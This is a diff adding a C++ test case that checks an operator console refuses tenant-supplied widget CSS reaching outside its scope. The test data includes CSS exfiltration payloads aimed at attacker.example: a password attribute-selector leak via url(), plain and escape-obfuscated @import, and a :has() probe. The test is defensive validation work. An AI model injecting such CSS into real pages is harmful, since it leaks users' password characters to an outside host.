@@ -12,6 +12,7 @@
 #include "OperatorCliRun.hpp"
 #include "ServerFixture.hpp"
 #include "operator/OperatorAccounts.hpp"
+#include "store/SqliteDatabase.hpp"
 #include "store/SqliteOperatorStore.hpp"
 #include "tenant/SecretHasher.hpp"
 
@@ -317,6 +318,52 @@ TEST_CASE("Operator widget settings: texts per language, language rule and CSS; 
     auto after = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/widgets", fixture.session())->body);
     CHECK(after["texts"].empty());
     CHECK(after["css"] == ".svc-card { border-radius: 9px; }");
+}
+
+// Issue 18, finding 11: CSS that reached outside the widgets was saved; now the console's PUT
+// refuses it, naming the line and column next to the CSS field, and stores nothing.
+TEST_CASE("Operator widget settings: CSS that reaches outside the widgets is refused with its line and column") {
+    ConsoleFixture fixture;
+    fixture.signInOk();
+    std::string apiId = fixture.createTenant("Shop")["tenant"]["apiId"];
+    auto put = [&](const std::string& css) {
+        return fixture.server.client().Put("/operator/api/tenants/" + apiId + "/widgets", fixture.session(),
+                                           json{{"css", css}}.dump(), "application/json");
+    };
+    REQUIRE(put(".svc-card__cart { background: #0a5 !important }")->status == 200);
+    struct Case {
+        std::string css;
+        std::string message;
+    };
+    const std::vector<Case> cases{
+        {"input[type=password][value^=a]{background:url(https://attacker.example/a)}",
+         "line 1, column 43: url(\"https://attacker.example/a\") leaves svc"},
+        {"@IMPORT 'https://attacker.example/x.css';", "line 1, column 1: @import is not allowed"},
+        {".svc-card { color: red }\n@\\69mport 'https://attacker.example/x.css';", "line 2, column 1: @import is not allowed"},
+        {"body:has(input[value^=a]) .svc-card { color: red }", "line 1, column 1: 'body' is outside the widget"},
+        {".svc-card:has(+ input) { color: red }", "line 1, column 10: ':has()' is not allowed"},
+    };
+    for (const auto& c : cases) {
+        CAPTURE(c.css);
+        auto refused = put(c.css);
+        REQUIRE(refused->status == 400);
+        json error = errorOf(refused);
+        CHECK(error["fields"][0]["field"] == "css");
+        CHECK(error["fields"][0]["message"].get<std::string>().rfind(c.message, 0) == 0);
+    }
+    auto kept = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/widgets", fixture.session())->body);
+    CHECK(kept["css"] == ".svc-card__cart { background: #0a5 !important }");
+    CHECK(kept["cssProblems"].empty());
+
+    // CSS an older svc stored: the console lists what shops no longer get.
+    {
+        auto db = SqliteDatabase::open(fixture.dir.path() + "/svc.sqlite3");
+        REQUIRE(db);
+        REQUIRE((*db)->execute("UPDATE widget_settings SET css = '@import \"https://attacker.example/x.css\"; .svc-card { color: red }'"));
+    }
+    auto legacy = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/widgets", fixture.session())->body);
+    REQUIRE(legacy["cssProblems"].size() == 1);
+    CHECK(legacy["cssProblems"][0].get<std::string>().rfind("line 1, column 1: @import is not allowed", 0) == 0);
 }
 
 TEST_CASE("Operator create (CLI): the password comes from the environment, is checked, and signs in") {
